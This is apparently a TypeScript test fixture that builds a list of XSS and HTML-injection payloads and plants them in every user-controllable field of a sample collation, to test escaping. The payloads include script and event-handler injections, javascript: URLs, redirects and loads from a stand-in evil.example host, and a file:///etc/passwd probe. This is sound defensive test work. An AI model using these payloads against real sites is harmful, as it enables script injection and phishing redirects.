import type { Collation } from '../../src/model/collation.ts'
import { ferry } from './fixture.ts'

export const PAYLOADS = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form action="https://evil.example"><input name=q>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus='",
  '` onclick=`alert(1)`',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//http://x',
  ' javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'https://x.example/"onclick="alert(1)',
  'file:///etc/passwd',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u202e<script>alert(1)</script>\u202c',
  '$' + '{alert(1)}{{alert(1)}}',
  'a\u0000b\u2028c\ufeffd',
] as const

/** The ferry with the payload as every string that a stranger can choose. */
export function poisoned(payload: string): Collation {
  const plain = ferry()
  const id = (old: string): string => `${payload}${old}`
  const ids = new Map(plain.documents.map(document => [document.id, id(document.id)]))
  const tamper = (value: unknown): unknown => {
    if (Array.isArray(value)) return value.map(tamper)
    if (typeof value === 'string') return ids.get(value) ?? value
    if (value === null || typeof value !== 'object') return value
    return Object.fromEntries(Object.entries(value).map(([key, one]) => [ids.get(key) ?? key, tamper(one)]))
  }
  const collation = tamper(plain) as Collation
  return {
    ...collation,
    documents: collation.documents.map((document, i) => ({
      ...document,
      location: payload,
      outlet: `${payload}${document.outlet}`,
      title: payload,
      byline: payload,
      credit: payload,
      language: payload,
      published: i === 0 ? payload : document.published,
      text: `${document.text} ${payload}`,
      dropped: [payload],
    })),
    speakers: collation.speakers.map(speaker => ({ ...speaker, name: payload, aliases: [payload] })),
    occasions: collation.occasions.map(occasion => ({
      ...occasion,
      date: { ...occasion.date!, value: payload },
      place: { text: payload, basis: 'inferred', from: [] },
    })),
    stories: collation.stories.map(story => ({ ...story, title: payload })),
    figures: collation.figures.map(figure => ({ ...figure, what: payload, unit: payload })),
    terms: collation.terms.map(term => ({
      referent: payload,
      names: term.names.map(name => ({ ...name, text: payload })),
    })),
    problems: [{ location: payload, code: 'empty', severity: 'error', message: payload }],
  }
}
